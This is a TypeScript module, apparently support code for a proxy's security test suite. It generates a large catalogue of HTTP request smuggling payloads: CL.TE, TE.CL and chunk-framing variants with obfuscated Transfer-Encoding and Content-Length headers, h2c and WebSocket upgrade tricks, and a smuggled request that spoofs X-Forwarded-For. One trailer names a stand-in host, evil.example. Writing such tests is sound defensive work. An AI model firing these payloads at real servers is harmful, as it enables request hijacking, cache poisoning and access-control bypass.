import { publicHost } from '../support/proxies.ts'

/** What one side may take for the body and the other for a request: it would come from the proxy itself, and from whom it likes. */
export const smuggledRequest = (marker: string): string =>
  `GET ${marker} HTTP/1.1\r\nHost: ${publicHost}\r\nX-Forwarded-For: 6.6.6.6\r\nX-Request-Id: smuggled-request\r\n\r\n`

/** The bytes of an attack; `head` is a request line with its fields, without the empty line. */
export type Attack = (head: string, smuggled: string) => string

const hex = (text: string): string => Buffer.byteLength(text, 'latin1').toString(16)
const size = (text: string): number => Buffer.byteLength(text, 'latin1')

/** One side ends the body at the last chunk, the other goes by Content-Length. */
const clTe =
  (te: string): Attack =>
  (head, smuggled) =>
    `${head}Content-Length: ${size(`0\r\n\r\n${smuggled}`)}\r\n${te}\r\n\r\n0\r\n\r\n${smuggled}`
/** The other way round. */
const teCl =
  (te: string): Attack =>
  (head, smuggled) =>
    `${head}${te}\r\nContent-Length: ${hex(smuggled).length + 2}\r\n\r\n${hex(smuggled)}\r\n${smuggled}\r\n0\r\n\r\n`
/** No Content-Length: who does not know the coding takes the body for none. */
const teAlone =
  (te: string): Attack =>
  (head, smuggled) =>
    `${head}${te}\r\n\r\n${hex(smuggled)}\r\n${smuggled}\r\n0\r\n\r\n`

const codings: Readonly<Record<string, string>> = {
  plain: 'Transfer-Encoding: chunked',
  'in capitals': 'TRANSFER-ENCODING: CHUNKED',
  'behind a tab': 'Transfer-Encoding:\tchunked',
  'behind a vertical tab': 'Transfer-Encoding: \vchunked',
  'before a vertical tab': 'Transfer-Encoding: chunked\v',
  'before a NUL': 'Transfer-Encoding: chunked\0',
  'with a blank before the colon': 'Transfer-Encoding : chunked',
  'with a tab before the colon': 'Transfer-Encoding\t: chunked',
  'behind a blank': ' Transfer-Encoding: chunked',
  folded: 'Transfer-Encoding:\r\n chunked',
  'folded by a bare LF': 'Transfer-Encoding:\n chunked',
  'behind a bare LF': 'X-A: b\nTransfer-Encoding: chunked',
  'behind a bare CR': 'X-A: b\rTransfer-Encoding: chunked',
  'with an underscore': 'Transfer_Encoding: chunked',
  'with a NUL in the name': 'Transfer\0-Encoding: chunked',
  'in quotes': 'Transfer-Encoding: "chunked"',
  'with a parameter': 'Transfer-Encoding: chunked;q=1',
  'x in front': 'Transfer-Encoding: xchunked',
  'beyond ASCII': 'Transfer-Encoding: chun\u212aed',
  'before identity': 'Transfer-Encoding: chunked, identity',
  'behind identity': 'Transfer-Encoding: identity, chunked',
  'behind gzip': 'Transfer-Encoding: gzip, chunked',
  'two times in one field': 'Transfer-Encoding: chunked, chunked',
  'two fields': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'two fields, the last unknown': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'two fields, the first unknown': 'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'behind an empty member': 'Transfer-Encoding: , chunked',
  empty: 'Transfer-Encoding: ',
  'named in Connection': 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
}

const lengthForms: Readonly<Record<string, (length: number) => string>> = {
  'twice, zero first': (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  'twice, zero last': (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  'twice in one field': (n) => `Content-Length: 0, ${n}`,
  'with a plus': (n) => `Content-Length: +${n}`,
  'with a minus': (n) => `Content-Length: -${n}`,
  'minus zero': () => 'Content-Length: -0',
  'with leading zeros': (n) => `Content-Length: 00${n}`,
  'in hexadecimal': (n) => `Content-Length: 0x${n.toString(16)}`,
  'with a fraction': (n) => `Content-Length: ${n}.0`,
  'with an underscore inside': (n) => `Content-Length: ${String(n).split('').join('_')}`,
  'with a blank inside': (n) => `Content-Length: ${String(n).split('').join(' ')}`,
  'with blanks around': (n) => `Content-Length:   ${n}   `,
  'before a vertical tab': (n) => `Content-Length: ${n}\v`,
  'before a NUL': (n) => `Content-Length: ${n}\0`,
  'before letters': (n) => `Content-Length: ${n}abc`,
  empty: () => 'Content-Length: ',
  'empty, then another': (n) => `Content-Length:\r\nContent-Length: ${n}`,
  'beyond 64 bits': (n) => `Content-Length: ${2n ** 64n + BigInt(n)}`,
  'beyond 32 bits': (n) => `Content-Length: ${2n ** 32n + BigInt(n)}`,
  'with a blank before the colon': (n) => `Content-Length : ${n}`,
  'with an underscore': (n) => `Content_Length: ${n}`,
  folded: (n) => `Content-Length:\r\n ${n}`,
  'behind a bare LF': (n) => `X-A: b\nContent-Length: ${n}`,
  'behind a bare CR': (n) => `X-A: b\rContent-Length: ${n}`,
  'named in Connection': (n) => `Connection: Content-Length\r\nContent-Length: ${n}`,
}

const named = <Value>(
  kind: string,
  forms: Readonly<Record<string, Value>>,
  attack: (form: Value) => Attack,
): Readonly<Record<string, Attack>> => Object.fromEntries(Object.entries(forms).map(([name, form]) => [`${kind}: ${name}`, attack(form)]))

const chunkedHead = 'Transfer-Encoding: chunked\r\n\r\n'

/** The framing of chunks itself: each form is the body up to where the smuggled request stands. */
const chunkForms: Readonly<Record<string, (smuggled: string) => string>> = {
  'a bare LF behind the size': (s) => `2\n{}\r\n0\r\n\r\n${s}`,
  'a bare LF in an extension': (s) => `2;\n{}\r\n0\r\n\r\n${s}`,
  'a bare LF in an extension that hides a size': (s) => `2;\n${hex(s)}\r\n${s}\r\n0\r\n\r\n`,
  'a bare CR in an extension': (s) => `2;\r{}\r\n0\r\n\r\n${s}`,
  'a bare LF behind the data': (s) => `2\r\n{}\n0\r\n\r\n${s}`,
  'other letters behind the data': (s) => `2\r\n{}XX0\r\n\r\n${s}`,
  'nothing behind the data': (s) => `2\r\n{}0\r\n\r\n${s}`,
  'a size of more than 64 bits': (s) => `10000000000000002\r\n{}\r\n0\r\n\r\n${s}`,
  'a size of 2^32': (s) => `100000000\r\n{}\r\n0\r\n\r\n${s}`,
  'a size with 0x': (s) => `0x2\r\n{}\r\n0\r\n\r\n${s}`,
  'a size with a plus': (s) => `+2\r\n{}\r\n0\r\n\r\n${s}`,
  'a size with a minus': (s) => `-2\r\n{}\r\n0\r\n\r\n${s}`,
  'a size with a blank in front': (s) => ` 2\r\n{}\r\n0\r\n\r\n${s}`,
  'a size with a blank behind': (s) => `2 \r\n{}\r\n0\r\n\r\n${s}`,
  'a size with an underscore': (s) => `0_2\r\n{}\r\n0\r\n\r\n${s}`,
  'no size': (s) => `\r\n{}\r\n0\r\n\r\n${s}`,
  'many zeros': (s) => `${'0'.repeat(400)}2\r\n{}\r\n0\r\n\r\n${s}`,
  'an extension of 20 KB': (s) => `2;${'x'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n${s}`,
  'an end of bare LFs': (s) => `2\r\n{}\r\n0\n\n${s}`,
  'an end without its last line': (s) => `2\r\n{}\r\n0\r\n${s}`,
  'a trailer that is a length': (s) => `2\r\n{}\r\n0\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'a trailer that is an address': (s) => `2\r\n{}\r\n0\r\nX-Forwarded-For: 6.6.6.6\r\nHost: evil.example\r\n\r\n${s}`,
  'a trailer without a colon': (s) => `2\r\n{}\r\n0\r\nGET /x HTTP/1.1\r\n\r\n${s}`,
  'a folded trailer': (s) => `2\r\n{}\r\n0\r\nX-A: b\r\n c\r\n\r\n${s}`,
}

const connectionAttacks: Readonly<Record<string, Attack>> = {
  'an upgrade to HTTP/2 in plain text': (head, s) =>
    `${head}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n${s}`,
  'an upgrade to WebSocket': (head, s) =>
    `${head}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n${s}`,
  'CONNECT with a request behind': (_head, s) => `CONNECT ${publicHost}:443 HTTP/1.1\r\nHost: ${publicHost}:443\r\n\r\n${s}`,
  'CONNECT with a body': (_head, s) =>
    `CONNECT ${publicHost}:443 HTTP/1.1\r\nHost: ${publicHost}\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'GET with a body': (_head, s) => `GET /v1/films/1 HTTP/1.1\r\nHost: ${publicHost}\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'GET with a chunked body': (_head, s) =>
    `GET /v1/films/1 HTTP/1.1\r\nHost: ${publicHost}\r\nTransfer-Encoding: chunked\r\n\r\n${hex(s)}\r\n${s}\r\n0\r\n\r\n`,
  'HEAD with a body': (_head, s) => `HEAD /v1/films/1 HTTP/1.1\r\nHost: ${publicHost}\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'Expect: 100-continue, body at once': (head, s) => `${head}Expect: 100-continue\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'Expect with something in front': (head, s) => `${head}Expect: y 100-continue\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'Expect twice': (head, s) => `${head}Expect: x\r\nExpect: 100-continue\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'Expect on GET': (_head, s) =>
    `GET /v1/films/1 HTTP/1.1\r\nHost: ${publicHost}\r\nExpect: 100-continue\r\nContent-Length: ${size(s)}\r\n\r\n${s}`,
  'HTTP/1.0 with chunks': (head, s) => teAlone('Transfer-Encoding: chunked')(head.replace('HTTP/1.1', 'HTTP/1.0'), s),
  'HTTP/1.0 kept alive with both lengths': (head, s) =>
    clTe('Transfer-Encoding: chunked')(`${head.replace('HTTP/1.1', 'HTTP/1.0')}Connection: keep-alive\r\n`, s),
  'a body in the request line': (_head, s) => `GET /v1/films/1 HTTP/1.1\n\n${s}`,
  'a bare LF as the end of the head': (head, s) => `${head}Content-Length: ${size(s)}\n\n${s}`,
  'a request in a value, behind a bare CR': (head, s) => `${head}X-A: b\r\r${s}\r\n\r\n`,
  'a request in a value, behind a NUL': (head, s) => `${head}X-A: b\0\r\n\r\n${s}`,
}

/** Where the body is read, and where the request is answered before its body is. */
export const attacks: Readonly<Record<string, Attack>> = {
  ...named('CL.TE', codings, clTe),
  ...named('TE.CL', codings, teCl),
  ...named('TE alone', codings, teAlone),
  ...named('Content-Length over the request', lengthForms, (form) => (head, s) => `${head}${form(size(s))}\r\n\r\n${s}`),
  ...named(
    'Content-Length before chunks',
    lengthForms,
    (form) => (head, s) => `${head}${form(5)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${s}`,
  ),
  ...named('chunks', chunkForms, (form) => (head, s) => `${head}${chunkedHead}${form(s)}`),
  ...connectionAttacks,
}
